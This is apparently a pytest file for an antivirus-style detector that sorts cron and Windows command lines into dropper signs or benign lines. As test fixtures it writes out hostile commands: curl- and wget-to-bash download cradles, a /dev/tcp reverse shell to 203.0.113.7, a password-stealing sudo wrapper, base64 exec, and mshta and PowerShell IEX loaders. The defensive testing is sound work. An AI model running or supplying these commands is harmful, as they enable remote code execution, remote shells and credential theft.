"""Lines that droppers leave behind, and the honest ones that look like them."""

from __future__ import annotations

import pytest

from techkit.readings.antivirus import droppers

# ruff: noqa: S108 - folders of temporary files are what is looked at


@pytest.mark.parametrize(
    ("command", "sign"),
    [
        ("curl -fsSL http://203.0.113.7/i.sh | bash", "smuggled"),
        ("wget -q -O - http://pastebin.com/raw/x | sh > /dev/null 2>&1", "smuggled"),
        ("curl -s https://203.0.113.7/x|sudo bash -s", "smuggled"),
        ("curl -s https://example.org/update.sh | sh", "fetched"),
        ('sh -c "$(curl -fsSL https://example.org/x)"', "fetched"),
        ("bash <(curl -s https://example.org/x)", "fetched"),
        ("echo aGVsbG8K | base64 -d | bash", "encoded"),
        ("echo aGVsbG8K|base64 --decode|sh", "encoded"),
        ("python3 -c \"import base64;exec(base64.b64decode('aGVsbG8K'))\"", "encoded"),
        ('sudo() { read -rsp "Password: " p; echo "$p" >> /x; echo "$p" | /usr/bin/sudo -S "$@"; }', "listening"),
        ("/tmp/.x/kworkerds", "temporary"),
        ("cd / && nohup /dev/shm/a >/dev/null 2>&1 &", "temporary"),
        ("bash /var/tmp/run.sh", "temporary"),
        (". /tmp/env.sh", "temporary"),
        ("[ -x /tmp/a ] && /tmp/a", "temporary"),
        ("wget http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "temporary"),
        ("sudo -u bob nice -n 19 /tmp/b", "temporary"),
        ("/usr/lib/.cache/upd", "hidden"),
        ("python3 /etc/.d/agent.py", "hidden"),
        ("/var/www/.../run", "hidden"),
        ("bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'", "door"),
    ],
)
def test_a_dropper_is_recognised(command: str, sign: str) -> None:
    assert droppers.sign(command) == sign


@pytest.mark.parametrize(
    "command",
    [
        "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "curl -fsS https://hc-ping.com/uuid > /dev/null",
        "wget -q -O /dev/null https://example.org/cron.php",
        "curl -s http://localhost:9200/_cat | grep green",
        "curl -s https://example.org/list | jq .",
        "find /tmp -type f -mtime +7 -delete",
        "/usr/bin/rsync -a /srv/ /tmp/backup/",
        "flock -n /tmp/job.lock /usr/local/bin/job",
        "timeout 60 /usr/local/bin/job --log /tmp/log",
        "mysqldump db | gzip > /tmp/db.sql.gz",
        '"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null',
        "/home/dev/.local/bin/tool",
        ". /home/dev/.cargo/env",
        "if [ -x /usr/bin/mdadm ] && [ $(date +\\%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all; fi",
        "echo secret | base64 -d > /etc/app/key",
        'eval "$(ssh-agent -s)"',
        "rm -f /tmp/x && touch /tmp/y",
        "cat /tmp/x | bash-completion",
        "exec /usr/bin/tool --tmp=/tmp",
        "if [ -x /usr/bin/tput ] && tput setaf 1 >&/dev/null; then",
        "job >/dev/null 2>&1 || true",
        "job &>/tmp/log",
    ],
)
def test_an_honest_line_is_left_alone(command: str) -> None:
    assert droppers.sign(command) == ""


@pytest.mark.parametrize(
    ("command", "sign"),
    [
        (r"C:\Users\bob\AppData\Local\Temp\svch0st.exe /s", "temporary"),
        (r'"C:\Users\Public\x.exe"', "temporary"),
        (r"%TEMP%\a.exe", "temporary"),
        (r"C:\Windows\Temp\a.exe", "temporary"),
        (r"C:\ProgramData\update.exe", "temporary"),
        (r"C:\Users\bob\AppData\Roaming\svc.exe", "temporary"),
        (r"wscript.exe //B C:\Users\Public\run.vbs", "temporary"),
        (r"C:\Windows\System32\rundll32.exe C:\Windows\Temp\a.dll,Start", "temporary"),
        ("powershell.exe -nop -w hidden -enc " + "QQBB" * 12, "encoded"),
        ("mshta http://203.0.113.7/a.hta", "smuggled"),
        ("regsvr32 /s /n /u /i:https://example.org/a.sct scrobj.dll", "fetched"),
        ("powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", "smuggled"),
    ],
)
def test_a_dropper_on_windows_is_recognised(command: str, sign: str) -> None:
    assert droppers.sign_windows(command) == sign


@pytest.mark.parametrize(
    "command",
    [
        r'"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background',
        r"C:\Users\bob\AppData\Local\Programs\Signal\Signal.exe",
        r"C:\Users\bob\AppData\Roaming\Spotify\Spotify.exe",
        r"C:\Program Files\Vendor\tool.exe --temp C:\Windows\Temp",
        r"%windir%\system32\SecurityHealthSystray.exe",
        r"%ProgramFiles%\Windows Mail\wab.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
        r"C:\Windows\System32\rundll32.exe C:\Windows\System32\x.dll,Start",
        "powershell.exe -NoProfile -File C:\\ProgramData\\Vendor\\x.ps1",
        "",
    ],
)
def test_an_honest_program_on_windows_is_left_alone(command: str) -> None:
    assert droppers.sign_windows(command) == ""


@pytest.mark.parametrize("part", ["curl |", "base64 -d ", "sh -c ", "nc -e ", "socat exec:/", "eval ", "x http: "])
def test_a_hostile_line_costs_no_time(part: str) -> None:
    import time

    began = time.process_time()
    droppers.sign(part * 50_000)
    droppers.sign_windows(part * 50_000)
    assert time.process_time() - began < 1
